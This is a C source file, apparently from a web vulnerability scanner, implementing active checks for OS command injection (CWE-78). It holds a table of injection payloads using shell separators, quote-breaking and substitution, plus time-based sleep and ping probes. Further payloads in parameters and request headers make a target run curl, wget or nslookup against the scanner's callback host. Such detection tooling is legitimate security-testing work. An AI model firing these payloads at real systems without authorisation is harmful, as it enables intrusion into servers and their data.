/* Active: input reaches a shell (CWE-78). The shell is asked to print a sum of two random
 * numbers between two random words; the request never contains the sum, so a page that
 * merely repeats its input cannot pass. Where nothing is printed, it is asked to wait
 * (timing.h) or to call us (oob.h). One request serves the ways of quoting. */
#include "scan/checks/active_private.h"
#include "scan/diff.h"
#include "scan/oob.h"
#include "scan/reaction.h"
#include "scan/timing.h"

/* {0} the value, {1} the command, {2} the same without blanks, {3} expr, {4} for Windows. */
static const struct form {
	const char *text;
	enum scan_mode from;
	enum { FRAMED, BARE, EITHER } answer; /* words around the sum, or the sum alone */
} forms[] = {
	{ "{0}|{1};{1};#'|{1};{1};#\"|{1};{1};#", SCAN_STANDARD, FRAMED },
	{ "{0}$({2})`{2}`", SCAN_STANDARD, FRAMED },
	{ "{0}\n{1}\n{3}\n#'\n{1}\n{3}\n#\"\n{1}\n{3}\n#", SCAN_STANDARD, EITHER },
	/* one sign alone, where the signs of a shell are told apart */
	{ "{0};{1};{3};#';{1};{3};#\";{1};{3};#", SCAN_STANDARD, EITHER },
	{ "{0}|{1} #'|{1} #\"|{1} #", SCAN_STANDARD, FRAMED },
	{ "{0}$({2})", SCAN_STANDARD, FRAMED },
	{ "{0}`{2}`", SCAN_STANDARD, FRAMED },
	{ "{0}&&{2}&&{2}'&&{2}&&{2}\"&&{2}&&{2}", SCAN_STANDARD, FRAMED },
	{ "{0}&{4}&'&{4}&\"&{4}&", SCAN_STANDARD, BARE },
	{ "{0}|{3}", SCAN_DEEP, BARE },
	{ "{0}|{2}", SCAN_STANDARD, FRAMED },
	{ "{0};{2};", SCAN_DEEP, FRAMED },
	{ "{0}||{1}||'||{1}||\"||{1}||", SCAN_STANDARD, FRAMED },
	{ "{0}'$({2})'", SCAN_STANDARD, FRAMED },
	{ "{0}'`{2}`'", SCAN_DEEP, FRAMED },
	{ "{0}&{1}&'&{1}&\"&{1}&", SCAN_DEEP, FRAMED },
	{ "{0}|{4}|'|{4}|\"|{4}", SCAN_DEEP, BARE },
	{ "{0}');{1};#\");{1};#", SCAN_DEEP, FRAMED },
	{ "{1}", SCAN_STANDARD, FRAMED },
	{ "{0}\n{2}\n", SCAN_DEEP, FRAMED },
};

#define SEVERAL 3 /* forms in front that serve several signs at once */

/* Both answers: either proves it. */
static struct str render_echo(struct probe *p, const struct form *f, struct str *framed, struct str *bare)
{
	struct active_sum s = active_numbers(p);
	uint32_t x = probe_number(p, 100000007, 400000009), y = probe_number(p, 100000007, 400000009);
	struct str args[] = {
		probe_point(p)->value,
		probe_printf(p, "echo %.*s$((%.*s+%.*s))%.*s", STR_ARG(s.left), STR_ARG(s.a), STR_ARG(s.b), STR_ARG(s.right)),
		probe_printf(p, "echo${IFS}%.*s$((%.*s+%.*s))%.*s", STR_ARG(s.left), STR_ARG(s.a), STR_ARG(s.b),
			     STR_ARG(s.right)),
		probe_printf(p, "expr %u + %u", x, y),
		probe_printf(p, "set /a %u+%u", x, y),
	};
	*framed = f->answer == BARE ? STR_NULL : probe_printf(p, "%.*s%.*s%.*s", STR_ARG(s.left), STR_ARG(s.sum), STR_ARG(s.right));
	*bare = f->answer == FRAMED ? STR_NULL : probe_printf(p, "%u", x + y);
	return active_fill(p, f->text, args);
}

static struct str fire(struct probe *p, const struct form *f, const struct scan_exchange **ret)
{
	struct str framed, bare, sent = render_echo(p, f, &framed, &bare), proof = STR_NULL;
	if (probe_value(p, sent, ret) < 0)
		return STR_NULL;
	if (framed.ptr)
		proof = active_find(*ret, framed);
	return proof.ptr || !bare.ptr ? proof : active_find(*ret, bare);
}

static bool try_form(struct probe *p, const struct form *f)
{
	const struct scan_exchange *x, *again;
	struct str proof = fire(p, f, &x);
	if (!proof.ptr)
		return false;
	bool sure = fire(p, f, &again).ptr != NULL;
	probe_report(p, &(struct scan_report){
				.exchange = x,
				.proof = proof,
				.confidence_set = true,
				.confidence = sure ? CONFIDENCE_CERTAIN : CONFIDENCE_FIRM,
				.detail_zh = STR("参数中附加的命令被执行：响应里出现了只有操作系统命令才能算出的随机数之和。"),
				.detail_en = STR("A command added to the parameter was run: the answer holds the sum of random numbers "
						 "that only a shell could have computed."),
			});
	return true;
}

/* ---- without output ---- */

static const struct wait_form {
	const char *text; /* {0} the value, {1} seconds, {2} pings */
	enum scan_mode from;
} waits[] = {
	{ "{0};sleep {1};#';sleep {1};#\";sleep {1};#", SCAN_STANDARD },
	{ "{0}$(sleep {1})|sleep {1} #'|sleep {1} #\"|sleep {1} #", SCAN_STANDARD },
	{ "{0}$(sleep {1})", SCAN_DEEP },
	{ "{0}|sleep {1} #'|sleep {1} #\"|sleep {1} #", SCAN_DEEP },
	{ "{0}\nsleep {1}\n#'\nsleep {1}\n#\"\nsleep {1}\n#", SCAN_DEEP },
	{ "{0}`sleep {1}`", SCAN_DEEP },
	{ "{0}'$(sleep {1})'", SCAN_DEEP },
	{ "{0}&&sleep${IFS}{1}&&'&&sleep${IFS}{1}&&'", SCAN_DEEP },
	{ "{0}||sleep {1}||'||sleep {1}||\"||sleep {1}||", SCAN_DEEP },
	{ "{0}&ping -n {2} 127.0.0.1&'&ping -n {2} 127.0.0.1&\"&ping -n {2} 127.0.0.1&", SCAN_DEEP },
};

static void render_wait(struct probe *p, void *ctx, unsigned seconds, struct scan_mutation *m)
{
	const struct wait_form *w = ctx;
	struct str args[] = { probe_point(p)->value, probe_printf(p, "%u", seconds), probe_printf(p, "%u", seconds + 1) };
	m->value = active_fill(p, w->text, args);
	m->value_set = true;
}

static bool try_waiting(struct probe *p)
{
	struct timing t;
	for (size_t i = 0; i < ARRAY_SIZE(waits); i++) {
		struct wait_form w = waits[i];
		if (w.from > probe_mode(p) || !probe_time_dependent(p, render_wait, &w, &t))
			continue;
		probe_report(p, &(struct scan_report){
					.exchange = t.x,
					.proof = t.sent,
					.confidence_set = true,
					.confidence = CONFIDENCE_CERTAIN,
					.detail_zh = probe_printf(p, "参数中附加的等待命令被执行。%.*s", STR_ARG(timing_zh(p, &t))),
					.detail_en = probe_printf(p, "A command to wait, added to the parameter, was run. %.*s",
								  STR_ARG(timing_en(p, &t))),
				});
		return true;
	}
	return false;
}

static void try_calling(struct probe *p)
{
	static const char *const calls[] = { "{0}$({1})|{1} #'|{1} #\"|{1} #", "{0};{1};#';{1};#\";{1};#", "{0}$({1})",
					     "{0}&{2}&'&{2}&\"&{2}&", "{0}\n{1}\n" };
	size_t n = probe_mode(p) == SCAN_DEEP ? ARRAY_SIZE(calls) : 2;
	for (size_t i = 0; i < n; i++) {
		struct scan_oob_name name;
		const struct scan_exchange *x;
		if (!probe_oob_host(p, &name))
			return;
		struct str args[] = {
			probe_point(p)->value,
			probe_printf(p, "(curl -s -m 3 %.*s||wget -q -T 3 -O- %.*s||nslookup %.*s)", STR_ARG(name.url),
				     STR_ARG(name.url), STR_ARG(name.host)),
			probe_printf(p, "nslookup %.*s", STR_ARG(name.host)),
		};
		struct str sent = active_fill(p, calls[i], args);
		if (probe_value(p, sent, &x) < 0)
			return;
		probe_oob_expect(p, name.token, SCAN_OOB_ANY,
				 &(struct scan_report){ .exchange = x, .proof = sent,
							.detail_zh = STR("参数中附加的命令被执行。"),
							.detail_en = STR("A command added to the parameter was run.") });
	}
}

/* The usual headers, once per request: only our listener can tell. */
static void try_headers(struct probe *p)
{
	static const struct str names[] = { STR_INIT("User-Agent"), STR_INIT("Referer"), STR_INIT("X-Forwarded-For") };
	struct scan_header h[3];
	struct scan_oob_name oob[3];
	const struct scan_exchange *x;
	for (size_t i = 0; i < 3; i++) {
		if (!probe_oob_host(p, &oob[i]))
			return;
		h[i] = (struct scan_header){ names[i], probe_printf(p, "x$(curl -s -m 3 %.*s||nslookup %.*s)", STR_ARG(oob[i].url),
								   STR_ARG(oob[i].host)) };
	}
	if (probe_send(p, &(struct scan_mutation){ .headers = h, .headers_len = 3, .fresh = true }, &x) < 0)
		return;
	for (size_t i = 0; i < 3; i++)
		probe_oob_expect(p, oob[i].token, SCAN_OOB_ANY,
				 &(struct scan_report){ .exchange = x, .proof = h[i].value, .parameter = names[i],
							.detail_zh = STR("请求头中附加的命令被执行。"),
							.detail_en = STR("A command added to a request header was run.") });
}

static void probe_shell(struct probe *p, const struct scan_point *pt)
{
	bool deep = probe_mode(p) == SCAN_DEEP;
	if (probe_first_point(p) && probe_oob_ready(p))
		try_headers(p);
	if (probe_reported(p) || (pt->where == WHERE_HEADER && !deep && !active_own_header(pt)) || (probe_sqli_found(p) && !deep))
		return;
	for (size_t i = 0; i < ARRAY_SIZE(forms) && !probe_reported(p); i++) {
		if ((i + 1 == SEVERAL && probe_inert(p)) || (i == SEVERAL && !reaction(p, REACTION_SHELL)))
			break;
		if (forms[i].from <= probe_mode(p) && try_form(p, &forms[i]))
			return;
	}
	if (probe_oob_ready(p))
		try_calling(p);
}

const struct scan_check check_command_injection = {
	.id = "command-injection",
	.title_zh = "操作系统命令注入",
	.title_en = "OS command injection",
	.severity = SEVERITY_CRITICAL,
	.cwe = 78,
	.owasp = "A03:2021",
	.modes = SCAN_STANDARD_UP,
	.flags = SCAN_DEEP_POINTS,
	.place = PLACE_POINT,
	.on_point = probe_shell,
};

/* Its own check, so that it comes after everything that does not hold up the scan. */
static void probe_blind(struct probe *p, const struct scan_point *pt)
{
	if (probe_point_found(p, "command-injection") || probe_sqli_found(p) || pt->where == WHERE_PATH ||
	    (pt->where == WHERE_HEADER && probe_mode(p) != SCAN_DEEP && !active_own_header(pt)))
		return;
	try_waiting(p);
}

const struct scan_check check_command_injection_time = {
	.id = "command-injection-time",
	.title_zh = "操作系统命令注入（时间型）",
	.title_en = "OS command injection (time based)",
	.severity = SEVERITY_CRITICAL,
	.cwe = 78,
	.owasp = "A03:2021",
	.modes = SCAN_STANDARD_UP,
	.place = PLACE_POINT,
	.on_point = probe_blind,
};
